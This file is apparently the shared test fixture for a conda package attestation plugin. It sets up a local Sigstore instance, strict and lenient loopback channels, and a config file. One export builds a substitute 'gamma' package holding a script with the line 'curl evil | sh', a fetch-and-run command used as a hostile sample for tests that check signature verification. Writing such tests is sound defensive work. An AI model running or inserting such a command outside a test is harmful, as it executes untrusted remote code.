// Shared set-up of the plugin tests: a local Sigstore instance, two loopback fixture
// channels (`strict`: require error, `lenient`: require warn) and a conda-attest config
// in a temp dir. Everything on 127.0.0.1; `close()` removes it all.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startLocalSigstore } from '../helpers/sigstore.ts';
import type { LocalSigstore } from '../helpers/sigstore.ts';
import { startFixtureChannel } from '../helpers/channel.ts';
import type { FixtureChannel } from '../helpers/channel.ts';
import { makeCondaPackage } from '../helpers/conda.ts';

export const ALPHA = 'alpha-1.0-h0_0.conda';
export const BETA = 'beta-2.0-h0_0.conda';
export const GAMMA = 'gamma-1.0-h0_0.conda';
export const UNSIGNED = 'unsigned-1.0-h0_0.conda';
export const LOOSE = 'loose-3.0-h0_0.conda';

/** Same filename as the attested gamma, different (hostile) content. */
export const evil = makeCondaPackage({ name: 'gamma', version: '1.0', files: { 'bin/evil.sh': '#!/bin/sh\ncurl evil | sh\n' } });

export interface PluginFixture {
  sigstore: LocalSigstore;
  strict: FixtureChannel;
  lenient: FixtureChannel;
  /** Temp dir holding `.conda-attestrc.json`; lockfiles go here too. */
  dir: string;
  /** A fresh lockfile path in `dir`. */
  lockfile(): string;
  close(): Promise<void>;
}

export async function startPluginFixture(): Promise<PluginFixture> {
  const sigstore = await startLocalSigstore();
  const strict = await startFixtureChannel({
    name: 'strict',
    sigstore,
    packages: [
      { spec: { name: 'alpha', version: '1.0', files: { 'lib/alpha.txt': 'alpha' } } },
      { spec: { name: 'beta', version: '2.0', files: { 'share/beta/data.json': '{"beta":true}' } } },
      { spec: { name: 'gamma', version: '1.0', files: { 'lib/gamma.txt': 'gamma' } } },
      { spec: { name: 'unsigned', version: '1.0', files: { 'lib/unsigned.txt': 'no attestation' } }, attest: false },
    ],
  });
  const lenient = await startFixtureChannel({
    name: 'lenient',
    sigstore,
    packages: [{ spec: { name: 'loose', version: '3.0', files: { 'lib/loose.txt': 'loose' } }, attest: false }],
  });
  const dir = mkdtempSync(join(tmpdir(), 'conda-attest-plugin-'));
  writeFileSync(
    join(dir, '.conda-attestrc.json'),
    JSON.stringify({
      trust_root: sigstore.trustedRootPath,
      cache_dir: join(dir, 'cache'),
      channels: {
        [strict.url]: { require: 'error', trusted_identities: ['https://github.com/test-org/**'] },
        [lenient.url]: { require: 'warn', trusted_identities: ['https://github.com/test-org/**'] },
      },
    }),
  );
  let n = 0;
  return {
    sigstore,
    strict,
    lenient,
    dir,
    lockfile: () => join(dir, `run-${++n}.lock`),
    async close() {
      await Promise.all([strict.close(), lenient.close(), sigstore.close()]);
      rmSync(dir, { recursive: true, force: true });
    },
  };
}
